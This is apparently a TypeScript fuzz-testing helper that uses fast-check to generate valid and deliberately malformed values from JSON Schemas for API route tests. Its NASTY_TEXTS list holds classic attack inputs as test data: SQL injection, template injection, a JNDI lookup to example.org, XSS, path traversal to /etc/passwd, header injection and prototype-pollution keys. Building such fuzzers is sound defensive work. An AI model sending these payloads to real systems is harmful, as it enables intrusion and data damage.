import fc, { type Arbitrary } from "fast-check";

/** As much of JSON Schema as the document of the routes uses. */
export interface JsonSchema {
    readonly $ref?: string;
    readonly type?: string;
    readonly enum?: readonly unknown[];
    readonly const?: unknown;
    readonly anyOf?: readonly JsonSchema[];
    readonly format?: string;
    readonly pattern?: string;
    readonly minLength?: number;
    readonly maxLength?: number;
    readonly minimum?: number;
    readonly maximum?: number;
    readonly minItems?: number;
    readonly maxItems?: number;
    readonly items?: JsonSchema;
    readonly properties?: Readonly<Record<string, JsonSchema>>;
    readonly required?: readonly string[];
}

export type Schemas = Readonly<Record<string, JsonSchema>>;

/** What people send who mean no good, and what breaks by accident. */
export const NASTY_TEXTS: readonly string[] = [
    "",
    " ",
    "'; DROP TABLE orders; --",
    "1 OR 1=1",
    "$where",
    "{{7*7}}",
    "${jndi:ldap://example.org/a}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "%00",
    "\u0000",
    "a\u0000b",
    "\ud800",
    "\u202e",
    "a\r\nset-cookie: x=y",
    "__proto__",
    "constructor",
    "null",
    "NaN",
    "-1",
    "1e309",
    "99999999999999999999",
    "𝒳".repeat(300),
    "x".repeat(10_000),
];

/** Values of a schema, now and then one that is not: in place of the whole, or somewhere within it. */
export function almost(schema: JsonSchema, schemas: Schemas): Arbitrary<unknown> {
    return fc.oneof({ weight: 9, arbitrary: shaped(schema, schemas) }, { weight: 1, arbitrary: junk() });
}

/** Anything that JSON can say. */
function junk(): Arbitrary<unknown> {
    return fc.oneof(
        fc.constantFrom(...NASTY_TEXTS),
        fc.constantFrom(null, true, false, -1, 0, 1.5, 1e308, -0, 2 ** 31, 2 ** 53, [], {}, [[]], { a: { b: [] } }),
        fc.jsonValue({ maxDepth: 3 }),
    );
}

function shaped(schema: JsonSchema, schemas: Schemas): Arbitrary<unknown> {
    const { $ref, anyOf, const: constant, enum: values } = schema;
    if ($ref !== undefined) {
        const target = schemas[$ref.replace("#/components/schemas/", "")];
        if (target === undefined) throw new Error(`the document has no ${$ref}`);
        return shaped(target, schemas);
    }
    if (anyOf) return fc.oneof(...anyOf.map((one) => almost(one, schemas)));
    if (values) return fc.constantFrom(...values);
    if (constant !== undefined) return fc.constant(constant);
    switch (schema.type) {
        case "object":
            return object(schema, schemas);
        case "array": {
            const { items = {}, minItems = 0, maxItems = 5 } = schema;
            return fc.array(almost(items, schemas), {
                minLength: minItems,
                maxLength: Math.min(maxItems, minItems + 5),
            });
        }
        case "string":
            return text(schema);
        case "integer":
            return fc.oneof(
                fc.integer({ min: schema.minimum ?? -1_000, max: schema.maximum ?? 1_000 }),
                fc.constantFrom(
                    schema.minimum ?? 0,
                    schema.maximum ?? 0,
                    (schema.minimum ?? 0) - 1,
                    (schema.maximum ?? 0) + 1,
                ),
            );
        case "number":
            return fc.double();
        case "boolean":
            return fc.boolean();
        case "null":
            return fc.constant(null);
        default:
            return junk();
    }
}

function object({ properties = {}, required = [] }: JsonSchema, schemas: Schemas): Arbitrary<unknown> {
    const fields = Object.fromEntries(
        Object.entries(properties).map(([name, property]) => [name, almost(property, schemas)]),
    );
    const complete = fc.record(fields, { requiredKeys: required.filter((name) => name in fields) });
    const incomplete = fc.record(fields, { requiredKeys: [] });
    const more = fc
        .tuple(complete, fc.constantFrom("extra", "__proto__", "constructor", "toString"), junk())
        .map(([value, name, extra]) => ({ ...value, [name]: extra }));
    return fc.oneof({ weight: 6, arbitrary: complete }, incomplete, more);
}

function text({ format, pattern, minLength = 0, maxLength = 40 }: JsonSchema): Arbitrary<string> {
    if (format === "uuid") return fc.uuid();
    if (format === "email") return fc.emailAddress();
    if (pattern !== undefined) return fc.stringMatching(new RegExp(pattern));
    return fc.string({ unit: "binary", minLength, maxLength: Math.min(maxLength, minLength + 40) });
}
